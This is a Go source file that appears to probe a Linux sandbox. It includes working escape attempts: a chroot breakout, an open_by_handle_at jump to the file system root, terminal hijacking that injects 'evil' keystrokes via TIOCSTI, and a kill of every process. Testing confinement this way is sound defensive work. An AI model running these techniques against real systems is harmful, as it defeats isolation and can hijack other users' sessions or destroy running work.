//go:build linux

package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"unsafe"
)

// registerEscape has what programs try that want out.
func registerEscape() {
	register("nested", nested)
	register("chroot", chroot)
	register("handle", openHandle)
	register("mqopen", func(a []string) (string, error) { // name, flags
		name, err := syscall.BytePtrFromString(a[0])
		if err != nil {
			return "", err
		}
		_, _, errno := syscall.Syscall6(syscall.SYS_MQ_OPEN, uintptr(unsafe.Pointer(name)), number(a[1]), 0o600, 0, 0, 0)
		return "", errnoOrNil(errno)
	})
	register("setxattr", func(a []string) (string, error) { // path, name, value
		return "", syscall.Setxattr(a[0], a[1], []byte(a[2]), 0)
	})
	register("sethostname", func(a []string) (string, error) { return "", syscall.Sethostname([]byte(a[0])) })
	register("fdpath", func(a []string) (string, error) { // descriptor, path relative to it
		fd, err := syscall.Openat(int(number(a[0])), a[1], syscall.O_RDONLY, 0)
		if err != nil {
			return "", err
		}
		return "", syscall.Close(fd)
	})
	register("setown", func(a []string) (string, error) { // pid that is to get SIGIO
		const fSetown = 8
		_, _, errno := syscall.Syscall(syscall.SYS_FCNTL, 0, fSetown, number(a[0]))
		return "", errnoOrNil(errno)
	})
	register("lurk", lurk)
	register("steal", steal)
	register("killall", func([]string) (string, error) { // everybody but process 1 and this one
		return "", syscall.Kill(-1, syscall.SIGKILL)
	})
}

// nested runs another operation as root of a new user and mount namespace.
func nested(a []string) (string, error) {
	cmd := exec.Command("/proc/self/exe", strings.Join(a, "|"))
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS,
		UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{HostID: os.Getgid(), Size: 1}},
	}
	answer, err := cmd.Output()
	if err != nil {
		return "", err
	}
	var o []Outcome
	if err := json.Unmarshal(answer, &o); err != nil || len(o) != 1 {
		return string(answer), fmt.Errorf("%d answers: %w", len(o), err)
	}
	if o[0].Errno != "" {
		return o[0].Out, errors.New(o[0].Errno)
	}
	return o[0].Out, nil
}

// chroot is the classic way out: a directory that is open while the root
// changes to one below it, from which ".." leads on and on.
func chroot([]string) (string, error) {
	if err := os.MkdirAll("/tmp/cage", 0o755); err != nil {
		return "", err
	}
	outside, err := os.Open("/")
	if err != nil {
		return "", err
	}
	defer outside.Close()
	if err := syscall.Chroot("/tmp/cage"); err != nil {
		return "", err
	}
	if err := outside.Chdir(); err != nil {
		return "", err
	}
	for range 100 {
		if err := os.Chdir(".."); err != nil {
			return "", err
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return "", err
	}
	entries, err := os.ReadDir("/")
	names := make([]string, len(entries))
	for i, e := range entries {
		names[i] = e.Name()
	}
	return strings.Join(names, "\n"), err
}

// openHandle opens the root directory of the file system that a path is on by
// its inode, whatever is mounted of it (open_by_handle_at, whose number follows
// the path).
func openHandle(a []string) (string, error) {
	dir, err := os.Open(a[0])
	if err != nil {
		return "", err
	}
	defer dir.Close()
	var handle struct {
		size, kind uint32
		inode, gen uint32
		rest       [120]byte
	}
	handle.size, handle.kind, handle.inode = 8, 1, 2 // FILEID_INO32_GEN, the root of ext4
	fd, _, errno := syscall.Syscall(number(a[1]), dir.Fd(), uintptr(unsafe.Pointer(&handle)), syscall.O_RDONLY)
	if errno != 0 {
		return "", errno
	}
	return "", syscall.Close(int(fd))
}

// steal makes the terminal on a descriptor this session's own and types into
// it.
func steal(a []string) (string, error) {
	const tiocsctty, tiocsti = 0x540e, 0x5412
	if _, _, errno := syscall.Syscall(syscall.SYS_IOCTL, number(a[0]), tiocsctty, 0); errno != 0 {
		return "", fmt.Errorf("take the terminal: %w", errno)
	}
	for _, c := range []byte("evil\n") {
		if _, _, errno := syscall.Syscall(syscall.SYS_IOCTL, number(a[0]), tiocsti, uintptr(unsafe.Pointer(&c))); errno != 0 {
			return "", errno
		}
	}
	return "", nil
}
